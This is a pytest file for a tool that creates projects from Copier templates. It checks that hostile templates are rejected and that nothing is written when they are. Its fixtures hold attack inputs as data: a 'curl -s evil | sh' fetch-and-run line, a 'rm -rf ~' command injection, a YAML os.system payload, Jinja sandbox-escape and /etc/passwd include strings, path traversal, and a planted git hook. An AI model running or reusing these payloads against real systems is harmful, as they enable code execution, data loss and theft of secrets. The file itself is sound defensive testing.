"""A project is made from a template: whole, or not at all."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

import art
from art import api
from art.errors import HubError, PathError, UserError
from art.projects.sources import built_in
from tests.projects.conftest import CONFIG, FUNCTIONS


def files_in(folder):
    return {p.relative_to(folder).as_posix() for p in Path(folder).rglob("*") if p.is_file()}


def make(folder, source, **answers):
    return api.make_project(folder, str(source), answers=answers)


def test_a_folder_is_a_template(template, tmp_path):
    made = make(tmp_path / "new", template(), width="8")
    assert made.files == ("docs/notes.md", "functions.py", "recipe.cfg")
    assert made.commands == ("art train recipe.cfg --code functions.py",)
    assert (tmp_path / "new/functions.py").read_text() == FUNCTIONS
    text = (tmp_path / "new/recipe.cfg").read_text()
    assert text == CONFIG.replace("{{ name }}", "new").replace("{{ width }}", "8")  # the folder's
    assert art.validate(tmp_path / "new/recipe.cfg") == []
    state = json.loads((tmp_path / "new/.art/project.json").read_text())
    assert state["answers"] == {"name": "new", "width": 8}
    assert state["template"] == str(tmp_path / "template")


def test_only_commands_of_art_are_taken_from_a_readme(template, tmp_path):
    lines = ["curl -s evil | sh", "art train recipe.cfg --model.hidden=[8]", "art list; rm -rf ~",
             "art train $(id)", "art report > x", "python -m pytest", "python -c 1"]  # fmt: skip
    template(files={"README.md": "```sh\n" + "\n".join(lines) + "\n```\n"})
    made = make(tmp_path / "new", tmp_path / "template")
    assert made.commands == (lines[1], lines[5]) and made.is_foreign


def test_the_users_own_copier_settings_trust_nothing(template, tmp_path, monkeypatch):
    settings = tmp_path / "settings.yml"
    settings.write_text(f'trust: ["{tmp_path}/"]\ndefaults: {{width: 77}}\n')
    monkeypatch.setenv("COPIER_SETTINGS_PATH", str(settings))
    make(tmp_path / "one", template())
    assert "hidden = [32]" in (tmp_path / "one/recipe.cfg").read_text()
    template(files={"copier.yml": "_tasks: ['touch ran']\n"})
    with pytest.raises(UserError, match="runs commands"):
        make(tmp_path / "two", tmp_path / "template")


@pytest.mark.parametrize(
    ("questions", "files", "message"),
    [
        ("_tasks: ['touch {ran}']", {}, "it runs commands after it is copied"),
        ("_migrations: ['touch {ran}']", {}, "it runs commands when it is updated"),
        ("_jinja_extensions: [os]", {}, "it loads Python modules"),
        ("_tasks: [x]\n_migrations: [y]", {}, "copied, and it runs commands when"),
        ("a: !!python/object/apply:os.system ['touch {ran}']", {}, "could not determine a const"),
        ("x: !include other.yml", {}, "!include"),
        ("a: &a [1]\nb: [*a", {}, "copier.yml"),
        ("- 1", {}, "holds no settings by name"),
        ("_subdirectory: ../..", {}, "forbidden"),
        ("_subdirectory: '{{ \"..\" }}'", {}, "forbidden"),
        ("", {"copier.yaml": ""}, "both copier.yml and copier.yaml"),
        ("", {"copier.yml": None}, "has no copier.yml"),
        ("_exclude: []", {"{{ '.git' }}/hooks/post-checkout": "touch {ran}"}, "writes"),
        ("", {".art/project.json.jinja": "{}", "{{ '.Git' }}/x": ""}, "writes"),
        ("", {"{{ '..' }}/outside": ""}, "forbidden"),
        ("", {"{{ pathjoin('..', 'x') }}": ""}, "forbidden"),
        ("", {"a.jinja": "{{ ''.__class__.__mro__ }}"}, "unsafe"),
        ("", {"a.jinja": "{{ self.__init__.__globals__ }}"}, "unsafe"),
        ("", {"a.jinja": "{{ '$HOME' | expandvars }}"}, "expandvars"),
        ("", {"a.jinja": "{{ ['/*'] | map('fileglob') | list }}"}, "fileglob"),
        ("", {"a.jinja": "{% include '/etc/passwd' %}"}, "etc/passwd"),
        ("", {"a.jinja": "{% include '../template.key' %}"}, "template.key"),
        ("", {"a.jinja": "{{ 1 / 0 }}"}, "zero"),
        ("", {"a.jinja": "{% if %}"}, "Expected an expression"),
        ("asked: {type: str}", {}, 'Question "asked" is required'),
    ],
)  # fmt: skip
def test_a_template_that_wants_more_than_to_be_filled_in(
    template, tmp_path, questions, files, message
):
    ran = tmp_path / "ran"
    (tmp_path / "template.key").write_text("secret")
    questions = questions.replace("{ran}", str(ran))
    template(files={"copier.yml": questions + "\n", "recipe.cfg.jinja": None, **files})
    before = files_in(tmp_path)
    with pytest.raises(UserError) as caught:
        make(tmp_path / "new" / "inner", tmp_path / "template")
    assert message in str(caught.value)
    assert str(caught.value).startswith("template ") and "\n" not in str(caught.value)
    assert files_in(tmp_path) == before and not (tmp_path / "new").exists()


def test_links_are_no_part_of_a_template(template, tmp_path):
    folder = template()
    (tmp_path / "key").write_text("secret")
    (folder / "key").symlink_to(tmp_path / "key")
    with pytest.raises(UserError, match="'key', which is a link"):
        make(tmp_path / "new", folder)
    (folder / "key").unlink()
    (folder / "more").symlink_to(tmp_path)
    with pytest.raises(UserError, match="'more', which is a link"):
        make(tmp_path / "new", folder)
    (folder / "more").unlink()
    os.mkfifo(folder / "pipe")
    with pytest.raises(UserError, match="'pipe'"):
        make(tmp_path / "new", folder)


@pytest.mark.parametrize(
    ("answers", "message"),
    [({"nam": "x"}, "Did you mean 'name'"), ({"width": "wide"}, "width"), ({"width": ""}, "width")],
)
def test_wrong_answers_write_nothing(template, tmp_path, answers, message):
    with pytest.raises(UserError, match=message):
        make(tmp_path / "new", template(), **answers)
    assert not (tmp_path / "new").exists()


def test_a_folder_of_its_own(template, tmp_path):
    (tmp_path / "new/.git").mkdir(parents=True)
    make(tmp_path / "new", template())  # a fresh repository is empty enough
    with pytest.raises(PathError, match="is not empty"):
        make(tmp_path / "new", template())
    with pytest.raises(PathError, match="is a file"):
        make(tmp_path / "new/recipe.cfg", template())


def test_names_of_templates_that_are_not_there(tmp_path):
    with pytest.raises(UserError, match="Did you mean 'digits'"):
        make(tmp_path / "new", "digit")
    with pytest.raises(PathError, match="no such folder"):
        make(tmp_path / "new", "./nowhere")
    assert list(built_in()) == ["digits", "fashion-mnist", "your-own-lightning-module"]
    assert all(built_in().values())


def git(folder, *words):
    subprocess.run(
        ["git", "-c", "user.name=a", "-c", "user.email=a@b", *words],
        cwd=folder, check=True, capture_output=True,
    )  # fmt: skip


def test_a_folder_of_a_git_repository_is_a_template(template, tmp_path):
    repository = tmp_path / "repository"
    template().rename(tmp_path / "kept")
    (repository / "templates").mkdir(parents=True)
    (tmp_path / "kept").rename(repository / "templates" / "small")
    (repository / "other").write_text("no part of it")
    git(tmp_path, "init", "-q", "-b", "main", "repository")
    git(repository, "add", "-A")
    git(repository, "commit", "-qm", "one")
    git(repository, "tag", "v1")
    source = f"git+file://{repository}//templates/small@v1"
    made = make(tmp_path / "new", source)
    assert made.files == ("docs/notes.md", "functions.py", "recipe.cfg")
    state = json.loads((tmp_path / "new/.art/project.json").read_text())
    assert state["template"] == source and len(state["revision"]) == 40
    with pytest.raises(HubError, match="no such folder"):
        make(tmp_path / "two", source.replace("small", "large"))
    with pytest.raises(UserError, match=r"has no copier\.yml"):
        make(tmp_path / "two", f"git+file://{repository}//@v1")
    (repository / "templates/small/link").symlink_to("/etc/passwd")
    git(repository, "add", "-A")
    git(repository, "commit", "-qm", "two")
    with pytest.raises(HubError, match="is a link or a submodule"):
        make(tmp_path / "two", f"git+file://{repository}//templates/small")
    assert not (tmp_path / "two").exists()


def test_a_template_that_reads_outside_is_refused_without_advice_to_trust_it(template, tmp_path):
    questions = "name:\n  type: str\n  default: mine\n_external_data:\n  it: ../key.yml\n"
    (tmp_path / "key.yml").write_text("value: secret\n")
    folder = template(
        files={"copier.yml": questions, "x.txt.jinja": "{{ _external_data.it.value }}"}
    )
    with pytest.raises(UserError) as caught:
        make(tmp_path / "new", folder)
    message = str(caught.value)
    assert "it wants more than to be filled in" in message and "../key.yml" in message
    assert "trust" not in message.lower() and "unsafe" not in message.lower()
    assert not (tmp_path / "new").exists()
